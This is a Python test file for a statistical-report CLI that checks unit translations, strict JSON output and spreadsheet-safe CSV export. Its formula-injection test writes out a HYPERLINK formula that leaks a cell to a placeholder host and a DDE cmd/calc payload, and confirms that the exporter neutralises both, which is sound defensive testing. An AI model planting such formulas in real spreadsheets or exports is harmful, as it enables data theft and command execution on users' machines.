import csv
import io
import json
import math
import subprocess
import sys
from pathlib import Path

import pytest

from report_utils.paths import DATA_DIR


def run(*args, cwd=None):
    return subprocess.run(
        [sys.executable, "-m", "report_utils", *args], capture_output=True, text=True, cwd=cwd
    )


def test_help_lists_the_commands():
    result = run("--help")
    assert result.returncode == 0
    assert "validate" in result.stdout and "build" in result.stdout


def test_validate_clean_data():
    result = run("validate", "--data", str(DATA_DIR))
    assert result.returncode == 0, result.stdout + result.stderr
    # rules that do not hold are warnings (see test_reconcile.py); the last line sums up
    assert result.stdout.splitlines()[-1].startswith("ok:")


def test_validate_missing_folder(tmp_path):
    result = run("validate", "--data", str(tmp_path / "nowhere"), cwd=tmp_path)
    assert result.returncode == 1
    assert result.stdout.strip() == "nowhere:0: -: data folder is missing"


def _untranslated_case_unit(data: Path) -> int:
    """Give the first company case a unit no catalogue translates; its line in the file."""
    path = data / "cases" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    index = next(i for i, row in enumerate(rows) if row["subject_kind"] == "company")
    rows[index]["unit"] = "台"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return index + 2  # the header is line 1


def test_a_unit_without_translation_is_found_by_validate(data_copy):
    line = _untranslated_case_unit(data_copy)
    result = run("validate", "--data", str(data_copy), cwd=data_copy.parent)
    assert result.returncode == 1
    expected = (
        f"data/cases/guizhou-industry-2021.csv:{line}: unit: "
        "unit '台' has no en words in meta/units.csv (column en) nor in the package's units "
        "(report_utils/briefing/messages/en.yaml): add a row for it to meta/units.csv"
    )
    assert expected in result.stdout.splitlines(), result.stdout
    # the remedy is data: a row of meta/units.csv, not an edit of the package
    (data_copy / "meta" / "units.csv").write_text(
        "id,en,en_one\n台,machines,machine\n", encoding="utf-8"
    )
    assert run("validate", "--data", str(data_copy), cwd=data_copy.parent).returncode == 0


def test_a_unit_without_translation_stops_the_build_before_any_kernel(data_copy, tmp_path):
    line = _untranslated_case_unit(data_copy)
    out = tmp_path / "out"
    result = run("build", "--data", str(data_copy), "--out", str(out), "--lang", "en")
    assert result.returncode == 1
    assert f"guizhou-industry-2021.csv:{line}: unit:" in result.stderr, result.stderr
    assert not list(out.rglob("*.ipynb")) and not list(out.rglob("briefing.*"))
    # Chinese writes units as the tables do: that briefing does not need the translation.
    from report_utils.batch import runner

    plan = runner.plan(data_copy, out, [], ["zh"], ["html"])
    assert [job.lang for job in plan.jobs] == ["zh"]


# --- issue 10, item 11: output for other programs is safe for them (synthetic rules) ------------

INJECTED = {
    "explanation_en": '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "explanation_zh": "@SUM(1+1)*cmd|' /C calc'!A0",
}
INJECTED_RULES = [
    # (id, explanation_zh, explanation_en): cells a spreadsheet would run as formulas
    ("synthetic-plus", "+1+1", "-2+3"),
    ("synthetic-tab", "\t=1+1", "=1+1"),
]
SAFE_RULE = "va-gdp-share-change"


def _rules_with_formulas(data: Path) -> None:
    """SYNTHETIC: explanations of the rules file that are spreadsheet formulas."""
    path = data / "rules" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    template = next(r for r in rows if r["id"] == SAFE_RULE)
    template.update(INJECTED)
    for rule_id, zh, en in INJECTED_RULES:
        rows.append({**template, "id": rule_id, "explanation_zh": zh, "explanation_en": en})
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def test_reconcile_csv_neutralises_spreadsheet_formulas(data_copy):
    _rules_with_formulas(data_copy)
    result = run("reconcile", "--data", str(data_copy), "--format", "csv", cwd=data_copy.parent)
    assert result.returncode == 0, result.stderr
    records = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    by_id = {r["id"]: r for r in records}
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for record in records:
        for column, cell in record.items():
            assert not cell.startswith(dangerous) or _is_number(cell), (column, cell)
    # the text is kept, behind a quote mark a spreadsheet shows as text
    assert by_id[SAFE_RULE]["explanation_en"] == "'" + INJECTED["explanation_en"]
    assert by_id[SAFE_RULE]["explanation_zh"] == "'" + INJECTED["explanation_zh"]
    assert by_id["synthetic-plus"]["explanation_zh"] == "'+1+1"
    assert by_id["synthetic-tab"]["explanation_zh"] == "'=1+1"  # cells are read stripped
    # numbers stay numbers, negative ones too
    assert any(float(r["difference"]) < 0 for r in records)


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


def _strict_json(text: str):
    def refuse(constant: str):
        raise ValueError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


@pytest.mark.parametrize(
    "values",
    [
        {"projects_started_rate": "9" * 400},  # "reported": Infinity
        {"projects_started": "9" * 400, "projects_introduced": "9" * 400},  # NaN
    ],
)
def test_reconcile_json_never_writes_nan_or_infinity(data_copy, values):
    """400-digit figures used to give "reported": Infinity and "recomputed": NaN."""
    path = data_copy / "figures" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["value"] = values.get(row["indicator"], row["value"])
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    result = run("reconcile", "--data", str(data_copy), "--format", "json", cwd=data_copy.parent)
    assert "Infinity" not in result.stdout and "NaN" not in result.stdout
    if result.returncode == 0:
        _strict_json(result.stdout)
    else:
        assert result.stdout == ""
        assert "data/figures/guizhou-industry-2021.csv:" in result.stderr


def test_reconcile_json_of_an_expression_beyond_a_double(data_copy):
    """A rule whose expression overflows (a constant of 1e999) is an error, not Infinity."""
    path = data_copy / "rules" / "guizhou-industry-2021.csv"
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    rule = next(r for r in rows if r["id"] == SAFE_RULE)
    rule["expression"] += " * 1e999"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    result = run("reconcile", "--data", str(data_copy), "--format", "json", cwd=data_copy.parent)
    assert "Infinity" not in result.stdout and "NaN" not in result.stdout
    assert result.returncode == 1
    assert "data/rules/guizhou-industry-2021.csv:" in result.stderr
    assert "finite" in result.stderr


def test_reconcile_json_is_strict_json():
    result = run("reconcile", "--format", "json")
    assert result.returncode == 0, result.stderr
    assert _strict_json(result.stdout)
